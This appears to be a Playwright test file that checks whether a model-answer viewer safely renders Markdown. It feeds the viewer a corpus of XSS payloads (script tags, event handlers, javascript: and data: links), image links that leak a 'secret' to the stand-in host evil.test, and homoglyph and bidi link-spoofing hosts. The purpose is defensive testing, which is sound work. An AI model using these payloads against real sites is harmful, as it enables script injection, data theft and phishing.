import { pretend } from "../support/generation.ts";
import { expect, test } from "../support/test.ts";
import { TryPage } from "../support/try_page.ts";

/** Where payloads would send something, and what they would call. */
const AWAY = "https://evil.test";
const RUN = "parent.pwned=top.pwned=window.pwned=1";

/** Known ways to run code or to send data away through the text of an answer, each in a form of its own. */
const CORPUS = [
  // scripts and elements with event handlers
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${AWAY}/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=${AWAY}/i.png>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<img/src=x/onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="${AWAY}/x.swf">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div onmouseover="${RUN}" style="position:fixed;inset:0">x</div>`,
  `<form action="${AWAY}"><input name=q value=secret><button autofocus>go</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<isindex action="javascript:${RUN}" type=image>`,
  // style, base, meta, link
  `<style>@import "${AWAY}/x.css";</style>`,
  `<style>*{background:url(${AWAY}/bg)}</style>`,
  `<link rel=stylesheet href=${AWAY}/x.css>`,
  `<link rel=prefetch href=${AWAY}/p>`,
  `<base href="${AWAY}/">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<p style="background:url('${AWAY}/s')">x</p>`,
  `<table background="${AWAY}/t"><td>x</td></table>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  // links with other schemes
  `[a](javascript:${RUN})`,
  `[a](JaVaScRiPt:${RUN})`,
  `[a]( javascript:${RUN})`,
  `[a](\u0001javascript:${RUN})`,
  `[a](java\tscript:${RUN})`,
  `[a](&#106;avascript:${RUN})`,
  `[a](javascript&colon;${RUN})`,
  `[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[a](vbscript:msgbox(1))`,
  `[a](file:///etc/passwd)`,
  `[a](//evil.test/x)`,
  `[a](blob:https://x/1)`,
  `<javascript:${RUN}>`,
  `<data:text/html,<script>${RUN}</script>>`,
  // references, attributes smuggled into links, titles
  `[a][1]\n\n[1]: javascript:${RUN}`,
  `[a][2]\n\n[2]: data:text/html,x "onmouseover=${RUN}"`,
  `[a](https://x.test" onmouseover="${RUN})`,
  `[a](https://x.test 'x" onclick="${RUN}')`,
  `[<img src=x onerror=${RUN}>](https://x.test)`,
  `["><script>${RUN}</script>](https://x.test)`,
  // images, which would fetch: what the answer knows goes out in the address
  `![secret](${AWAY}/?q=secret)`,
  `![](${AWAY}/p.gif)`,
  `[![x](${AWAY}/nested.png)](https://x.test)`,
  `![x][img]\n\n[img]: ${AWAY}/ref.png`,
  `![x](${AWAY}/a.png "title")`,
  `![x\n](${AWAY}/line.png)`,
  // comments, entities, processing instructions
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  // code, tables, headings, lists, quotations around it
  "```html\n<script>" + RUN + "</script>\n```",
  "`<img src=x onerror=" + RUN + ">`",
  "```\n</code></pre><script>" + RUN + "</script>",
  `# <script>${RUN}</script>`,
  `- <img src=x onerror=${RUN}>\n- ok`,
  `> <svg onload=${RUN}>`,
  `| a |\n|---|\n| <img src=x onerror=${RUN}> |`,
  `***<b onclick=${RUN}>x</b>***`,
  // nesting and letters that only look like others
  `[[a](https://x.test)](javascript:${RUN})`,
  `[a](https://x.test)](javascript:${RUN})`,
  `[a](((((javascript:${RUN})))))`,
  `[https://good.test](https://evil.test/x)`,
  `[a](https://good.test@evil.test/x)`,
  `[a](https://good.test\\@evil.test/x)`,
  `[a](https://\u202Egnp.tset.live/x)`,
  `[a](ｊａｖａｓｃｒｉｐｔ:${RUN})`,
  `＜script＞${RUN}＜/script＞`,
  `\u0000<script>${RUN}</script>`,
  `<<script>>${RUN}<</script>>`,
  // templates of other engines
  `{{constructor.constructor('${RUN}')()}}`,
  "${" + RUN + "}",
];

/** Links whose host may be taken for another, and the host that must be shown; `null` where there must be no link. */
const HOSTS: [string, string | null][] = [
  ["[a](https://xn--80ak6aa92e.com/)", "xn--80ak6aa92e.com"],
  ["[a](https://\u0430\u0440\u0440\u04cf\u0435.com/)", "xn--80ak6aa92e.com"],
  ["[a](https://p\u0430ypal.com/)", "xn--pypal-4ve.com"],
  ["[a](https://b\u00fccher.example/)", "xn--bcher-kva.example"],
  ["<https://b\u00fccher.example/>", "xn--bcher-kva.example"],
  ["[a](https://\u4f8b\u3048.test/)", "xn--r8jz45g.test"],
  ["[a](https://\uff45\uff56\uff49\uff4c.test/)", "evil.test"],
  ["[a](https://evil\u3002test/)", "evil.test"],
  ["[a](https://EVIL.test:8443/x)", "evil.test:8443"],
  ["[a](https://0x7f.1/)", "127.0.0.1"],
  ["[a](https://3232235777/)", "192.168.1.1"],
  ["[a](https://good.test%2eevil.test/)", "good.test.evil.test"],
  ["[a](https://good.test\\@evil.test/x)", "good.test"],
  ["[a](https://good.test:80@evil.test/)", "evil.test"],
  ["[a](https://good.test%40evil.test/)", null],
  ["[a](https:///evil.test/x)", "evil.test"],
  ["[a](https:evil.test)", null],
  ["[a](https://good.test\u2044evil.test/)", "good.xn--testevil-h03d.test"],
  ["[a](https://good.test\u202eevil.test/)", null],
  ["[a](https://\u2066good.test\u2069.evil.test/)", null],
  ["[a](https://ev\u00adil.test/)", "evil.test"],
  ["[a](https://ev\u200bil.test/)", "evil.test"],
  ["[a](https://exa mple.test/)", "exa"],
  ["[a](https://a%00b.test/)", null],
  // The signs stand in the words of a link, or before it, and shall not turn the host round.
  ["[\u202etset.doog](https://evil.test/x)", "evil.test"],
  ["[\u2067good.test](https://evil.test/x)", "evil.test"],
  ["\u202e [a](https://evil.test/x)", "evil.test"],
  ["[\u05d0\u05d1](https://evil.test/x)", "evil.test"],
  ["[a](https://\u05d0\u05d1.test/x)", "xn--4dbc.test"],
  ["[a](mailto:a@b.test?subject=x)", "a@b.test"],
  ["[a](mailto:\u0430@b.test)", null],
  ["[a](mailto:a@b\u202e.test)", null],
];

/** What an answer may consist of. */
const ALLOWED = new Set(["P", "H4", "H5", "H6", "BLOCKQUOTE", "PRE", "CODE", "UL", "OL", "LI", "EM", "STRONG", "A", "SPAN", "BR", "HR"]);
/** Attributes that those may have. */
const ATTRIBUTES = new Set(["href", "rel", "target", "class", "start", "tabindex"]);

/** Panes of one generation. */
const AT_ONCE = 9;

test("there are enough ways, each of its own", () => {
  expect(new Set(CORPUS).size).toBe(CORPUS.length);
  expect(CORPUS.length).toBeGreaterThanOrEqual(60);
});

test("no answer runs code, fetches anything or makes an element that is not allowed", async ({ page, errors }) => {
  test.setTimeout(300_000);
  const outside: string[] = [];
  await page.route(/^(?!https?:\/\/127\.0\.0\.1)/, (route) => {
    outside.push(route.request().url());
    return route.abort();
  });
  page.on("dialog", (dialog) => {
    outside.push(dialog.message());
    return dialog.dismiss();
  });
  const own: string[] = [];
  let from = 0;
  await pretend(page, () => CORPUS.slice(from, from + AT_ONCE).map((text, at) => ({ text: `round ${from}\n\n${text}\n\nafter`, is_default: at === 0 })));
  const trying = new TryPage(page);
  await trying.open();
  await page.getByRole("combobox", { name: "Who answers" }).selectOption("Test model");
  page.on("request", (request) => own.push(new URL(request.url()).pathname));
  for (; from < CORPUS.length; from += AT_ONCE) {
    await trying.go.click();
    await expect(trying.lanes.filter({ hasText: `round ${from}` })).toHaveCount(Math.min(AT_ONCE, CORPUS.length - from));
    for (const lane of await trying.lanes.all()) await expect(lane.locator(".flow")).toContainText("after");
    const found = await page.locator(".lanes .flow").evaluateAll(
      (flows, [allowed, attributes]) =>
        flows.flatMap((flow) =>
          [...flow.querySelectorAll("*")].flatMap((element) => {
            const wrong = [...element.attributes].map(({ name }) => name).filter((name) => !attributes!.includes(name));
            const href = element.getAttribute("href");
            if (!allowed!.includes(element.tagName)) wrong.push(element.tagName);
            if (href !== null && !/^(https?:\/\/|mailto:)/i.test(href)) wrong.push(href);
            // The host to which the browser would go stands beside a link.
            if (href !== null && !element.nextElementSibling?.textContent?.includes((element as HTMLAnchorElement).host)) wrong.push(`host of ${href}`);
            return wrong.map((what) => `${what} in ${flow.textContent}`);
          }),
        ),
      [[...ALLOWED], [...ATTRIBUTES]],
    );
    expect(found).toEqual([]);
    // Whatever waits for a pointer gets one.
    for (const lane of await trying.lanes.all()) await lane.hover();
  }
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as any).pwned)).toBeUndefined();
  expect(outside).toEqual([]);
  expect(own.filter((path) => !/^\/(api\/v1\/(generate|comparisons|session)|models\/encoder\/manifest|assets|packs)/.test(path))).toEqual([]);
  expect(errors).toEqual([]);
});

test("the host beside a link is the one to which the browser goes, in letters that cannot be taken for others, and in their order", async ({ page, errors }) => {
  test.setTimeout(240_000);
  let from = 0;
  const round = () => HOSTS.slice(from, from + AT_ONCE);
  await pretend(page, () => round().map(([text], at) => ({ text: `round ${from}\n\n${text}\n\nafter`, is_default: at === 0 })));
  const trying = new TryPage(page);
  await trying.open();
  await page.getByRole("combobox", { name: "Who answers" }).selectOption("Test model");
  for (; from < HOSTS.length; from += AT_ONCE) {
    await expect(trying.go).toBeEnabled();
    await trying.go.click();
    await expect(trying.lanes.filter({ hasText: `round ${from}` })).toHaveCount(round().length);
    for (const lane of await trying.lanes.all()) await expect(lane.locator(".flow")).toContainText("after");
    const shown = await page.locator(".lanes .flow").evaluateAll((flows) =>
      flows.map((flow) => {
        flow.closest(".lane__scroll")!.scrollIntoView();
        const host = flow.querySelector(".link-host");
        const link = flow.querySelector("a");
        if (!host || !link) return null;
        const range = document.createRange();
        const boxes = [...host.childNodes].flatMap((node) =>
          [...(node.nodeValue ?? "")].map((_, at) => {
            range.setStart(node, at);
            range.setEnd(node, at + 1);
            return range.getBoundingClientRect();
          }),
        );
        const seen = boxes.filter(({ width }) => width > 0);
        const isInOrder = seen.length > 3 && seen.every(({ left, top }, at) => at === 0 || top > seen[at - 1]!.top || left >= seen[at - 1]!.left - 0.5);
        const goes = link.protocol === "mailto:" ? link.pathname : link.host;
        return { host: host.textContent!.trim().slice(1, -1), goes, isInOrder };
      }),
    );
    const wanted = round().map(([, host]) => host);
    expect(shown.map((found) => found?.host ?? null).sort()).toEqual([...wanted].sort());
    for (const found of shown.filter((found) => found !== null)) {
      expect(found!.goes).toBe(found!.host);
      expect(found!.host).toMatch(/^[\x21-\x7e]+$/);
      expect(found!.isInOrder, found!.host).toBe(true);
    }
  }
  expect(errors).toEqual([]);
});
